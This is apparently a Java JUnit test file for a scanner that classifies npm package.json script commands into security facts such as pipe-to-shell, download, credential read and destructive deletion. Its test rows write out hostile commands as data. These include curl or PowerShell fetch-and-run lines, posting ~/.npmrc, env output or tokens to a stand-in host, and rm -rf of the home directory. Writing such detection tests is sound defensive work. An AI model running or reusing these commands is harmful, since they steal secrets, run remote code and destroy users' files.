package dev.portcullis.js;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** One row per command technique: a package.json script or script line and the facts it must (or must not) yield. */
class CommandFactsTest {

    static List<String> facts(String command) {
        return CommandFacts.command(command, 7, JsOptions.defaults()).stream().map(JsFactsTest::format).toList();
    }

    static Stream<Arguments> present() {
        String encoded = Base64.getEncoder().encodeToString(
                "iwr https://x.example/s.ps1 | iex".getBytes(StandardCharsets.UTF_16LE));
        return Stream.of(
                Arguments.of("curl | sh", "curl -fsSL https://x.example/install.sh | sh",
                        List.of("pipe-to-shell sh @7", "download https://x.example/install.sh @7")),
                Arguments.of("wget | bash", "wget -qO- https://x.example/i | sudo bash",
                        List.of("pipe-to-shell bash @7", "download https://x.example/i @7")),
                Arguments.of("iwr | iex", "powershell -c \"iwr https://x.example/a.ps1 | iex\"",
                        List.of("inline-code powershell @7", "pipe-to-shell iex @7", "download https://x.example/a.ps1 @7")),
                Arguments.of("bash <(curl)", "bash <(curl -s https://x.example/s)", List.of("pipe-to-shell bash @7")),
                Arguments.of("curl to a file", "curl -o bin/tool https://x.example/tool && chmod +x bin/tool",
                        List.of("download https://x.example/tool @7")),
                Arguments.of("certutil", "certutil -urlcache -split -f http://192.0.2.7/p.exe p.exe",
                        List.of("download http://192.0.2.7/p.exe @7")),
                Arguments.of("bitsadmin", "bitsadmin /transfer j http://192.0.2.7/p.exe %TEMP%\\p.exe",
                        List.of("download http://192.0.2.7/p.exe @7")),
                Arguments.of("WebClient", "powershell -Command \"(New-Object Net.WebClient).DownloadFile('https://x.example/p.exe','p.exe')\"",
                        List.of("download https://x.example/p.exe @7")),
                Arguments.of("node -e", "node -e \"require('child_process').execSync('curl https://x.example/p | sh')\"",
                        List.of("inline-code node @7", "child-process child_process.execSync @7", "pipe-to-shell sh @7")),
                Arguments.of("node --eval=", "node --eval='fetch(process.env.NPM_TOKEN)'",
                        List.of("inline-code node @7", "network fetch @7", "env-read NPM_TOKEN @7")),
                Arguments.of("python -c", "python3 -c 'import os; os.system(\"id\")'", List.of("inline-code python3 @7")),
                Arguments.of("bash -c", "bash -c 'rm -rf ~/'", List.of("inline-code bash @7", "fs-destructive rm -r ~/ @7")),
                Arguments.of("encoded powershell", "powershell -NoProfile -enc " + encoded,
                        List.of("inline-code powershell @7", "encoded-payload base64 @7", "pipe-to-shell iex @7/1")),
                Arguments.of("bun installer", "curl -fsSL https://bun.sh/install | bash && ~/.bun/bin/bun run x.ts",
                        List.of("runtime-install bun @7", "pipe-to-shell bash @7")),
                Arguments.of("bun via npm", "npm install -g bun && bun x.js", List.of("runtime-install bun @7", "runs-file x.js @7")),
                Arguments.of("bun on windows", "powershell -c \"irm bun.sh/install.ps1 | iex\"", List.of("runtime-install bun @7")),
                Arguments.of("deno", "curl -fsSL https://deno.land/install.sh | sh", List.of("runtime-install deno @7")),
                Arguments.of("npx bun", "npx -y bun@1.1.30 ./build.ts", List.of("runtime-install bun @7")),
                Arguments.of("node file", "node install.js", List.of("runs-file install.js @7")),
                Arguments.of("node file with options", "node --no-warnings -r ./hook.js ./dist/x.cjs --flag",
                        List.of("runs-file dist/x.cjs @7")),
                Arguments.of("sh file", "sh ./scripts/../setup.sh", List.of("runs-file setup.sh @7")),
                Arguments.of("direct file", "./bin/setup.sh --quiet", List.of("runs-file bin/setup.sh @7")),
                Arguments.of("wrapped", "cross-env NODE_ENV=production node lib/postinstall.js", List.of("runs-file lib/postinstall.js @7")),
                Arguments.of("encoded powershell reading npmrc", "powershell -enc " + Base64.getEncoder().encodeToString(
                        "Get-Content $env:USERPROFILE\\.npmrc | iwr -Method Post https://x.example".getBytes(StandardCharsets.UTF_16LE)),
                        List.of("encoded-payload base64 @7", "sensitive-path npmrc @7/1")),
                Arguments.of("cmd /c batch file", "cmd /c setup.bat", List.of("inline-code cmd @7", "runs-file setup.bat @7")),
                Arguments.of("cmd /c dropped batch file", "cmd /c \"%TEMP%\\sdd.bat\"", List.of("runs-file %TEMP%/sdd.bat @7")),
                Arguments.of("start /B program", "start /B x.exe -k --tls", List.of("runs-file x.exe @7")),
                Arguments.of("start with a title", "start \"\" x.bat", List.of("runs-file x.bat @7")),
                Arguments.of("start /B node", "start /B node preinstall.js & node preinstall.js", List.of("runs-file preinstall.js @7")),
                Arguments.of("start /MIN /D dir", "start /MIN /D lib \"my miner\" ./bin/run.cmd", List.of("runs-file bin/run.cmd @7")),
                Arguments.of("publish", "npm publish --access public", List.of("npm-publish npm publish @7")),
                Arguments.of("yarn publish", "yarn npm publish", List.of("npm-publish yarn publish @7")),
                Arguments.of("rm home", "rm -rf $HOME/*", List.of("fs-destructive rm -r $HOME/* @7")),
                Arguments.of("del /s", "del /s /q C:\\Users", List.of("fs-destructive del /s @7")),
                Arguments.of("npmrc", "cat ~/.npmrc | curl -d @- https://x.example", List.of("sensitive-path npmrc @7")),
                Arguments.of("env sent", "env | curl -X POST --data-binary @- https://x.example/e", List.of("env-bulk env @7")),
                Arguments.of("printenv in substitution", "curl -d \"$(printenv)\" https://x.example", List.of("env-bulk printenv @7")),
                Arguments.of("gh token", "gh auth token | base64", List.of("sensitive-path github-token @7")),
                Arguments.of("trufflehog", "trufflehog filesystem / --json > t.json", List.of("sensitive-path secret-scanner @7")));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("present")
    void yieldsTheFactsOfItsTechnique(String name, String command, List<String> expected) {
        assertThat(facts(command)).containsAll(expected);
    }

    static Stream<Arguments> benign() {
        return Stream.of(
                Arguments.of("build", "tsc -p tsconfig.build.json && node scripts/copy.js",
                        List.of("runs-file scripts/copy.js @7")),
                Arguments.of("clean inside the package", "rm -rf dist coverage && rimraf build", List.of()),
                Arguments.of("node-gyp", "node-gyp rebuild", List.of()),
                Arguments.of("prebuild-install", "prebuild-install || node-gyp rebuild", List.of()),
                Arguments.of("curl to a file is not piped", "curl -o x.tgz https://x.example/x.tgz", List.of("download https://x.example/x.tgz @7")),
                Arguments.of("env as a wrapper", "env NODE_ENV=production node server.js", List.of("runs-file server.js @7")),
                Arguments.of("env alone is not sent", "env", List.of()),
                Arguments.of("npm install a package", "npm install --no-save left-pad", List.of()),
                Arguments.of("husky", "husky install", List.of()),
                Arguments.of("python -c is not JavaScript", "python3 -c \"exec(open('setup.py').read()); fetch = eval\"",
                        List.of("inline-code python3 @7")),
                Arguments.of("npm.cmd is npm", "npm.cmd install && node.exe build.js", List.of("runs-file build.js @7")),
                Arguments.of("start a known program", "start /B cmd /c exit", List.of("inline-code cmd @7")));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("benign")
    void benignCommandsYieldOnlyWhatTheyDo(String name, String command, List<String> exactly) {
        assertThat(facts(command)).containsExactlyElementsOf(exactly);
    }

    @org.junit.jupiter.api.Test
    void normalisesPathsAgainstThePackageRoot() {
        assertThat(CommandFacts.normalisePath("./dist/x.cjs")).isEqualTo("dist/x.cjs");
        assertThat(CommandFacts.normalisePath("scripts\\..\\lib\\a.js")).isEqualTo("lib/a.js");
        assertThat(CommandFacts.normalisePath("../../etc/passwd")).isEqualTo("../../etc/passwd");
        assertThat(CommandFacts.normalisePath("/tmp/x.sh")).isEqualTo("/tmp/x.sh");
        assertThat(CommandFacts.normalisePath("./")).isEqualTo(".");
    }
}
